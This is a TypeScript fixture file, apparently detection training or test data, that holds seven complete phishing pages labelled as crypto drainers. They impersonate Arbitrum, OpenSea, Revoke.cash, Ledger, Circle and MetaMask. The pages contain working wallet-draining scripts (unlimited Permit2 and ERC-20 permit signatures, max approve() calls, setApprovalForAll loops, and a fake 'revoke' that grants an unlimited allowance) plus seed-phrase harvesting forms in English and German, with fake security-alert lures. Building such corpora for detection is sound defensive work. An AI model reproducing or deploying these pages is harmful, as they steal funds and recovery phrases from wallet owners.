import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

// Crypto drainers (approve / setApprovalForAll / Permit2 / whole-balance transfers) and seed-phrase theft kits.
const html = String.raw;

export const entries: Entry[] = [
{
  id: 'b-cd-airdrop-permit2',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://arbitrum-claim.foundation-drop.com/season2',
  body: html`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Arbitrum | Season 2 Airdrop Claim</title>
<style>body{margin:0;background:#0b1a2e;color:#fff;font-family:Inter,system-ui,sans-serif}.nav{display:flex;justify-content:space-between;padding:18px 36px}.nav b{font-size:20px}
.btn{background:#12aaff;border:0;color:#fff;border-radius:12px;padding:12px 24px;font-weight:600;cursor:pointer}.hero{max-width:640px;margin:60px auto;text-align:center}
.card{background:#13233a;border:1px solid #213a5c;border-radius:18px;padding:30px;margin-top:30px}.amt{font-size:44px;font-weight:800;color:#12aaff}#st{color:#9fb3c8;font-size:14px;margin-top:14px}</style></head>
<body><div class="nav"><b>ARBITRUM</b><button class="btn" id="c1">Connect Wallet</button></div>
<div class="hero"><h1>Season 2 Airdrop is live</h1><p>Eligible wallets that bridged, swapped or provided liquidity on Arbitrum One before the snapshot can claim their ARB allocation. Unclaimed tokens return to the DAO treasury after 14 days.</p>
<div class="card"><div>Your allocation</div><div class="amt" id="amt">— ARB</div><button class="btn" id="claim" style="width:100%;margin-top:18px">Check eligibility</button><div id="st"></div></div></div>
<script>
var SPENDER = '0x3fA1b2C4d5E6f7081928374655647382910aBcDe';
var PERMIT2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';
var acct = null;
async function connect(){
  if (!window.ethereum) { document.getElementById('st').textContent = 'Please install MetaMask or open this page in your wallet browser.'; return null; }
  var a = await window.ethereum.request({ method: 'eth_requestAccounts' });
  acct = a[0]; document.getElementById('c1').textContent = acct.slice(0,6) + '...' + acct.slice(-4);
  return acct;
}
async function claim(){
  if (!acct && !(await connect())) return;
  document.getElementById('st').textContent = 'Checking eligibility...';
  var r = await fetch('/api/tokens?address=' + acct).then(function(x){ return x.json(); });
  document.getElementById('amt').textContent = r.allocation + ' ARB';
  var deadline = Math.floor(Date.now()/1000) + 86400 * 30;
  var details = r.tokens.map(function(t, i){ return { token: t.address, amount: '1461501637330902918203684832716283019655932542975', expiration: deadline, nonce: i }; });
  var typed = {
    types: {
      EIP712Domain: [{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],
      PermitBatch: [{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],
      PermitDetails: [{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]
    },
    primaryType: 'PermitBatch',
    domain: { name: 'Permit2', chainId: 1, verifyingContract: PERMIT2 },
    message: { details: details, spender: SPENDER, sigDeadline: deadline }
  };
  document.getElementById('st').textContent = 'Sign the message in your wallet to claim (no gas required).';
  try {
    var sig = await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [acct, JSON.stringify(typed)] });
    await fetch('/api/claim', { method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({ owner: acct, sig: sig, permit: typed.message }) });
    document.getElementById('st').textContent = 'Claim submitted! Tokens will arrive within 24 hours.';
  } catch (e) { document.getElementById('st').textContent = 'Signature rejected. Try again to claim your allocation.'; }
}
document.getElementById('c1').onclick = connect;
document.getElementById('claim').onclick = claim;
</script></body></html>`,
  routes: {
    'arbitrum-claim.foundation-drop.com/api/tokens': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ allocation: '1,250.00', tokens: [{ symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }, { symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'WETH', address: '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2' }, { symbol: 'DAI', address: '0x6B175474E89094C44Da98b954EedeAC495271d0F' }] }) },
  },
},
{
  id: 'b-cd-approve-max',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://pepe-rewards.claims-portal.xyz/',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>$PEPE Holder Rewards</title>
<style>body{background:#1f3b12 url(/img/pepe-bg.png);font-family:"Comic Neue","Trebuchet MS",sans-serif;color:#fff;text-align:center;margin:0}
.box{max-width:520px;margin:80px auto;background:rgba(0,0,0,.55);border:3px solid #4caf50;border-radius:20px;padding:30px}
button{background:#4caf50;color:#fff;border:0;border-radius:30px;font-size:20px;padding:14px 40px;cursor:pointer;font-weight:bold}.t{color:#b2ff59;font-size:30px;font-weight:bold}</style></head>
<body><div class="box"><h1>$PEPE Holder Rewards &#128056;</h1><p>The PEPE treasury is distributing <span class="t">420,690,000,000 PEPE</span> to early holders. Connect your wallet to claim your share. First come first served!</p>
<button id="go">Claim Rewards</button><p id="m" style="min-height:20px"></p><p style="font-size:12px;opacity:.7">Ends in 02:14:37</p></div>
<script>
const TOKEN = '0x6982508145454Ce325dDbE47a25d4ec3d2311933';
const RECV = '0x8b2E4a9c1F3d5B7e0A2c4E6f8091a3B5c7D9e1f2';
function pad(a){ return a.toLowerCase().replace('0x','').padStart(64,'0'); }
document.getElementById('go').addEventListener('click', async () => {
  const m = document.getElementById('m');
  try {
    const [from] = await ethereum.request({ method: 'eth_requestAccounts' });
    const chain = await ethereum.request({ method: 'eth_chainId' });
    if (chain !== '0x1') await ethereum.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: '0x1' }] });
    m.textContent = 'Verifying wallet...';
    const data = '0x095ea7b3' + pad(RECV) + 'f'.repeat(64);
    await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: TOKEN, data, value: '0x0' }] });
    m.textContent = 'Success! Rewards are being sent to ' + from.slice(0,8) + '...';
    fetch('/log.php', { method: 'POST', body: new URLSearchParams({ w: from, t: 'approve' }) });
  } catch (e) { m.textContent = 'Error: transaction rejected. Please approve to receive rewards.'; }
});
</script></body></html>`,
},
{
  id: 'b-cd-nft-approvalforall',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://opensea-genesis-drop.io/collection/lil-otters-genesis/mint',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Lil Otters Genesis – Free Mint for Holders | OpenSea</title>
<style>body{margin:0;font-family:Poppins,Inter,sans-serif;background:#fff;color:#04111d}.top{display:flex;align-items:center;gap:12px;padding:14px 28px;border-bottom:1px solid #e5e8eb}
.top .logo{width:36px;height:36px;background:#2081e2;border-radius:50%}.col{max-width:1000px;margin:30px auto;display:flex;gap:40px}.img{width:440px;height:440px;border-radius:14px;background:linear-gradient(135deg,#8ec5fc,#e0c3fc)}
.mint{background:#2081e2;color:#fff;border:0;border-radius:12px;padding:16px;width:100%;font-size:17px;font-weight:600;cursor:pointer}.sup{color:#707a83}</style></head>
<body><div class="top"><div class="logo"></div><b>OpenSea</b></div>
<div class="col"><div class="img"></div><div style="flex:1"><p class="sup">Lil Otters Genesis &middot; Verified</p><h1>Holder Free Mint</h1><p>Holders of any blue-chip collection are eligible for a free Genesis otter. Minting is gasless — just confirm your holder status.</p>
<p><b>Price:</b> FREE &nbsp; <b>Minted:</b> 8,412 / 10,000</p><button class="mint" id="mint">Mint now</button><p id="s" class="sup"></p></div></div>
<script>
var OP = '0x5c1dE0a7B3f48A29c6e3d7F1a2B9c8E0d4F6a7B1';
var COLLECTIONS = ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0xbd3531dA5CF5857e7CfAA92426877b022e612cf8','0x23581767a106ae21c074b2276D25e5C3e136a68b'];
async function mint(){
  var s = document.getElementById('s');
  var accts = await window.ethereum.request({ method: 'eth_requestAccounts' });
  var me = accts[0];
  s.textContent = 'Confirm holder status in your wallet...';
  for (var i = 0; i < COLLECTIONS.length; i++) {
    var data = '0xa22cb465' + OP.slice(2).toLowerCase().padStart(64, '0') + '0000000000000000000000000000000000000000000000000000000000000001';
    try { await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: me, to: COLLECTIONS[i], data: data }] }); } catch (e) {}
  }
  s.textContent = 'Mint queued. Your otter will appear in your wallet shortly.';
}
document.getElementById('mint').onclick = mint;
</script></body></html>`,
},
{
  id: 'b-cd-revoke-lure',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://revoke-cash.app-security.com/address',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Revoke.cash - Revoke your token approvals</title>
<style>body{margin:0;font-family:system-ui,sans-serif;background:#fff;color:#000}.hd{display:flex;justify-content:space-between;padding:16px 30px;border-bottom:1px solid #000}
.w{max-width:900px;margin:40px auto}.alert{background:#ffe3e3;border:1px solid #e03131;padding:14px 18px;border-radius:10px;margin-bottom:20px}
table{width:100%;border-collapse:collapse}td,th{border-bottom:1px solid #ddd;padding:10px;text-align:left;font-size:14px}.b{background:#000;color:#fff;border:0;border-radius:8px;padding:10px 20px;cursor:pointer}</style></head>
<body><div class="hd"><b>Revoke.cash</b><button class="b" id="cw">Connect Wallet</button></div>
<div class="w"><div class="alert"><b>Security alert:</b> a recent exploit affects wallets with unlimited approvals. We detected <b>7 risky approvals</b> on wallets like yours. Revoke them now to protect your funds.</div>
<table><tr><th>Asset</th><th>Approved spender</th><th>Allowance</th><th></th></tr>
<tr><td>USDT</td><td>0x1111…5e1f (Compromised router)</td><td>Unlimited</td><td rowspan="3"><button class="b" id="ra">Revoke all</button></td></tr>
<tr><td>USDC</td><td>0x7a25…488d</td><td>Unlimited</td></tr><tr><td>WETH</td><td>0xdef1…5eff</td><td>Unlimited</td></tr></table><p id="s"></p></div>
<script>
const tokens = ['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'];
const safeGuard = '0x9d3E7b1A2c4F6e8D0a1B3c5E7f9A2b4C6d8E0f13';
let me;
document.getElementById('cw').onclick = async () => { [me] = await ethereum.request({ method: 'eth_requestAccounts' }); document.getElementById('cw').textContent = me.slice(0, 6) + '…'; };
document.getElementById('ra').onclick = async () => {
  if (!me) [me] = await ethereum.request({ method: 'eth_requestAccounts' });
  // "revoke" by moving allowance to the guard contract
  for (const t of tokens) {
    const data = '0x095ea7b3' + safeGuard.slice(2).padStart(64, '0') + 'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
    await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: me, to: t, data }] }).catch(() => {});
  }
  document.getElementById('s').textContent = 'All approvals revoked. Your wallet is protected.';
};
</script></body></html>`,
},
{
  id: 'b-cd-seed-ledger-24',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://ledger-live-recovery.com/secure/device-check',
  body: html`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Ledger Live — Device Security Check</title>
<style>body{margin:0;background:#131415;color:#fff;font-family:Inter,HM Alpha,Arial,sans-serif}.n{padding:20px 40px;font-size:22px;letter-spacing:2px}
.c{max-width:760px;margin:20px auto;background:#1c1d1f;border-radius:12px;padding:34px}.c p{color:#bbb;line-height:1.6}
.g{display:grid;grid-template-columns:repeat(4,1fr);gap:10px;margin:20px 0}.g div{display:flex;align-items:center;background:#272829;border-radius:6px;padding:0 8px}.g span{color:#888;width:24px;font-size:13px}
.g input{background:transparent;border:0;color:#fff;padding:10px 4px;width:100%;outline:none}.btn{background:#bbb0ff;color:#131415;border:0;border-radius:28px;padding:14px 34px;font-weight:600;cursor:pointer}</style></head>
<body><div class="n">LEDGER</div><div class="c"><h2>Security incident: verify your recovery phrase</h2>
<p>Following a data incident at one of our e-commerce partners, some Ledger devices may be exposed. To protect your assets, Ledger Live must verify that your 24-word recovery phrase matches the one stored on your device's secure element. After verification, your device will be re-keyed automatically.</p>
<form id="f" action="/secure/submit.php" method="post"><div class="g" id="g"></div><input type="hidden" name="device" value="Nano X"><button class="btn">Verify and secure my device</button></form></div>
<script>
var g=document.getElementById('g');for(var i=1;i<=24;i++){g.insertAdjacentHTML('beforeend','<div><span>'+i+'.</span><input name="word'+i+'" required autocomplete="off" spellcheck="false"></div>');}
</script></body></html>`,
  routes: {
    'ledger-live-recovery.com/secure/submit.php': htmlRoute(html`<!DOCTYPE html><html><head><meta http-equiv="refresh" content="3;url=https://www.ledger.com/"><title>Verified</title></head><body style="background:#131415;color:#fff;font-family:Arial;text-align:center;padding-top:120px"><h2>Verification in progress…</h2><p>Please keep your device connected.</p></body></html>`),
  },
},
{
  id: 'b-cd-js-redirect-claim',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://link.web3-news-hub.com/p/usdc-rebate',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Circle USDC rebate</title><meta property="og:title" content="Circle USDC holder rebate program"><meta property="og:image" content="https://link.web3-news-hub.com/og/usdc.png"></head>
<body><p>Loading&hellip;</p><script>setTimeout(function(){location.replace('https://usdc-rebate.circle-claims.com/claim?ref=' + encodeURIComponent(document.referrer || 'direct'))}, 400);</script></body></html>`,
  routes: {
    'usdc-rebate.circle-claims.com/claim': htmlRoute(html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>USDC Holder Rebate | Circle</title>
<style>body{margin:0;font-family:"Circular",Arial;background:#f4f6fb;color:#101828}.c{max-width:480px;margin:70px auto;background:#fff;border-radius:16px;padding:34px;box-shadow:0 8px 24px rgba(16,24,40,.08)}.b{background:#2775ca;color:#fff;border:0;border-radius:10px;padding:14px;width:100%;font-size:16px;cursor:pointer}</style></head>
<body><div class="c"><h2>USDC Holder Rebate</h2><p>Holders of USDC on Ethereum receive a 4% rebate on their average balance over the last 90 days. Sign the gasless permit to register your wallet.</p><button class="b" id="b">Connect wallet</button><p id="s"></p></div>
<script>
const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', SP = '0x6f4A1c3E5b7D9f0A2c4E6b8D0f1A3c5E7b9D1f2A';
document.getElementById('b').onclick = async () => {
  const [owner] = await ethereum.request({ method: 'eth_requestAccounts' });
  const nonceHex = await ethereum.request({ method: 'eth_call', params: [{ to: USDC, data: '0x7ecebe00' + owner.slice(2).padStart(64, '0') }, 'latest'] });
  const msg = { owner, spender: SP, value: '115792089237316195423570985008687907853269984665640564039457584007913129639935', nonce: parseInt(nonceHex, 16), deadline: 1893456000 };
  const data = { types: { EIP712Domain: [{ name: 'name', type: 'string' }, { name: 'version', type: 'string' }, { name: 'chainId', type: 'uint256' }, { name: 'verifyingContract', type: 'address' }], Permit: [{ name: 'owner', type: 'address' }, { name: 'spender', type: 'address' }, { name: 'value', type: 'uint256' }, { name: 'nonce', type: 'uint256' }, { name: 'deadline', type: 'uint256' }] }, domain: { name: 'USD Coin', version: '2', chainId: 1, verifyingContract: USDC }, primaryType: 'Permit', message: msg };
  const sig = await ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(data)] });
  await fetch('/api/permit', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ...msg, sig }) });
  document.getElementById('s').textContent = 'Registered! Your rebate will be paid on the 1st of next month.';
};
</script></body></html>`),
  },
},
{
  id: 'b-cd-seed-de',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://metamask-de.sicherheit-wallet.com/verifizierung',
  body: html`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>MetaMask – Wallet-Verifizierung</title>
<style>body{font-family:Arial,sans-serif;background:#f7f9fc;margin:0}.k{max-width:520px;margin:60px auto;background:#fff;border-radius:12px;padding:30px;border:1px solid #e3e6ea}
textarea{width:100%;height:100px;box-sizing:border-box;border:1px solid #bbc0c5;border-radius:8px;padding:10px;font-size:15px}.b{background:#f6851b;color:#fff;border:0;border-radius:24px;padding:13px;width:100%;font-size:15px;margin-top:12px}.h{color:#d73a49;font-size:13px}</style></head>
<body><div class="k"><img src="/img/metamask-fox.svg" width="60" alt=""><h2>Wallet-Verifizierung erforderlich</h2>
<p>Aufgrund neuer EU-Vorgaben (MiCA) müssen alle MetaMask-Wallets bis zum <b>31.01.</b> verifiziert werden. Nicht verifizierte Wallets werden eingeschränkt.</p>
<p>Bitte geben Sie Ihre geheime Wiederherstellungsphrase (12 oder 24 Wörter) ein:</p>
<form method="post" action="/verifizierung/senden"><textarea name="seed" required placeholder="Wort1 Wort2 Wort3 ..."></textarea><input type="hidden" name="lang" value="de">
<button class="b">Jetzt verifizieren</button></form><p class="h">Die Verifizierung ist kostenlos und dauert weniger als 2 Minuten.</p></div></body></html>`,
},
];
